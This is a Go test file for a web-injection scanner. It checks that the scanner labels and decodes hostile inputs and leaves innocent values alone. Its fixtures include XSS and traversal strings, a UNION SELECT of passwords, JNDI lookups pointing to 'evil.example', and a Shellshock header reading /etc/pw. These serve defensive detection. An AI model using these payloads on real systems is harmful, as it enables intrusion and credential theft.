package injection

import (
	"compress/gzip"
	"encoding/csv"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// lines reads a list: empty lines and those that begin with "# " are for the reader.
func lines(tb testing.TB, name string) (texts []string) {
	tb.Helper()
	file, err := os.ReadFile(filepath.Join("testdata", name))
	require.NoError(tb, err)
	for line := range strings.Lines(string(file)) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && !strings.HasPrefix(line, "# ") {
			texts = append(texts, line)
		}
	}
	require.NotEmpty(tb, texts)
	return texts
}

var kindsByName = map[string]Kind{
	"lookup": KindLookup, "entity": KindEntity, "sql": KindSQL, "script": KindScript, "command": KindCommand, "traversal": KindTraversal,
	"template": KindTemplate, "operator": KindQueryOperator, "ldap": KindLDAP, "forgery": KindForgery, "header": KindHeader,
}

func TestPayloadsAreNamed(t *testing.T) {
	var scanner Scanner
	for _, line := range lines(t, "hostile.txt") {
		name, payload, _ := strings.Cut(line, " ")
		found := scanner.Scan(payload)
		assert.Equal(t, kindsByName[name].About(), found.Kind.About(), "%q: %s", payload, found.Sign)
		found = scanner.ScanQuery("page=2&q=" + url.QueryEscape(payload))
		assert.Equal(t, kindsByName[name].About(), found.Kind.About(), "in a query: %q: %s", payload, found.Sign)
	}
}

func TestInnocentValuesAreLeftAlone(t *testing.T) {
	var scanner Scanner
	for _, value := range lines(t, "innocent.txt") {
		assert.Zero(t, scanner.Scan(value), "%q", value)
		assert.Zero(t, scanner.ScanQuery("page=2&q="+url.QueryEscape(value)), "in a query: %q", value)
		assert.Zero(t, scanner.Scan(url.PathEscape(value)), "in a path: %q", value)
	}
}

func TestWhatIsEncodedTwiceIsToldApart(t *testing.T) {
	var scanner Scanner
	for payload, decoded := range map[string]int{
		"<script>alert(1)</script>":         0,
		"%3Cscript%3Ealert(1)":              1,
		"%253Cscript%253Ealert(1)":          2,
		"/a/%2e%2e/%2e%2e/%2e%2e/x":         1,
		"/a/%252e%252e/%252e%252e/%252e./x": 2,
	} {
		assert.Equal(t, decoded, scanner.Scan(payload).Decoded, payload)
	}
	assert.Equal(t, 0, scanner.ScanQuery("q=%3Cscript%3E").Decoded, "a browser encodes a query once")
	assert.Equal(t, 1, scanner.ScanQuery("q=%253Cscript%253E").Decoded)
}

func TestAPathThatNamesAFileIsAProbe(t *testing.T) {
	var scanner Scanner
	for path, kind := range map[string]Kind{
		"/etc/passwd": KindNone, "/WEB-INF/web.xml": KindNone, "/static/../../etc/passwd": KindTraversal, "/..%2f..%2fetc/passwd": KindTraversal,
		"/search/<script>alert(1)</script>": KindScript,
	} {
		assert.Equal(t, kind.About(), scanner.ScanPath(path).Kind.About(), path)
	}
}

func TestOperatorInAName(t *testing.T) {
	var scanner Scanner
	assert.Equal(t, KindQueryOperator, scanner.ScanQuery("user=admin&password[$ne]=").Kind)
	assert.Equal(t, KindQueryOperator, scanner.ScanQuery("password%5B%24ne%5D=x").Kind)
	assert.Zero(t, scanner.ScanQuery("filter[name]=x&$top=5&$filter=Price gt 20"))
}

// TestParameters: the data set that the rules were written with. Its payloads are in small letters and cut up by whoever collected
// them: some are no payload any more.
func TestParameters(t *testing.T) {
	file, err := os.Open(filepath.Join("..", "..", "testdata", "http-params.csv.gz"))
	require.NoError(t, err)
	defer file.Close()
	unpacked, err := gzip.NewReader(file)
	require.NoError(t, err)
	rows, err := csv.NewReader(unpacked).ReadAll()
	require.NoError(t, err)

	wanted := map[string]Kind{"norm": KindNone, "sqli": KindSQL, "xss": KindScript, "cmdi": KindCommand, "path-traversal": KindTraversal}
	named, all := map[string]float64{}, map[string]float64{}
	var scanner Scanner
	for _, row := range rows[1:] {
		all[row[2]]++
		if scanner.Scan(row[0]).Kind == wanted[row[2]] {
			named[row[2]]++
		}
	}
	for label, least := range map[string]float64{"norm": 0.999, "sqli": 0.97, "xss": 0.95, "cmdi": 0.70, "path-traversal": 0.80} {
		t.Logf("%s: %.0f of %.0f (%.1f%%)", label, named[label], all[label], 100*named[label]/all[label])
		assert.GreaterOrEqual(t, named[label]/all[label], least, label)
	}
}

func TestOrdinaryTextAllocatesNothing(t *testing.T) {
	var scanner Scanner
	for _, path := range []string{"/api/v1/orders/1042", "/users/6ba7b810-9dad-11d1-80b4-00c04fd430c8/profile.json", ""} {
		assert.Zero(t, testing.AllocsPerRun(100, func() { scanner.Scan(path) }), path)
	}
	for _, query := range []string{"page=2&limit=20&sort=-created_at", "q=shoes", ""} {
		assert.Zero(t, testing.AllocsPerRun(100, func() { scanner.ScanQuery(query) }), query)
	}
}

func TestEveryKindHasReferences(t *testing.T) {
	for kind := KindLookup; kind <= KindHeader; kind++ {
		assert.NotEmpty(t, kind.About())
		assert.Regexp(t, `^cwe:\d+$`, kind.References()[len(kind.References())-1])
	}
	assert.Contains(t, KindForgery.References(), "owasp:API7:2023")
}

func FuzzScan(f *testing.F) {
	for _, line := range append(lines(f, "hostile.txt"), lines(f, "innocent.txt")...) {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, text string) {
		var scanner Scanner
		before := strings.Clone(text)
		found := scanner.Scan(text)
		assert.Equal(t, found, scanner.Scan(text))
		assert.Equal(t, found.Kind != KindNone, found.Sign != "")
		assert.LessOrEqual(t, found.Decoded, layers)
		scanner.ScanQuery(text)
		assert.Equal(t, before, text, "the span's own memory is not written to")
		if found.Kind != KindNone {
			assert.True(t, isSuspicious(text))
		}
	})
}

func BenchmarkScan(b *testing.B) {
	for name, text := range map[string]string{
		"path": "/api/v1/orders/1042", "name": "O'Reilly & Sons", "sql": "1' UNION SELECT username, password FROM users--",
		"long": strings.Repeat("lorem ipsum dolor sit amet ", 200),
	} {
		b.Run(name, func(b *testing.B) {
			var scanner Scanner
			b.ReportAllocs()
			for b.Loop() {
				scanner.Scan(text)
			}
		})
	}
}

func TestHeaders(t *testing.T) {
	var scanner Scanner
	for header, kind := range map[string]Kind{
		"Mozilla/5.0 (X11; U; Linux x86_64; id; rv:128.0) Gecko/20100101 Firefox/128.0": KindNone,
		"curl/8.5.0 -- ;)":                     KindNone,
		"price=$5; theme=dark":                 KindNone,
		"Mozilla/5.0 ${jndi:ldap://evil/a}":    KindLookup,
		"${${::-j}ndi:dns://evil.example}":     KindLookup,
		"() { :;}; /bin/bash -c 'cat /etc/pw'": KindCommand,
	} {
		assert.Equal(t, kind.About(), scanner.ScanHeader(header).Kind.About(), header)
	}
}
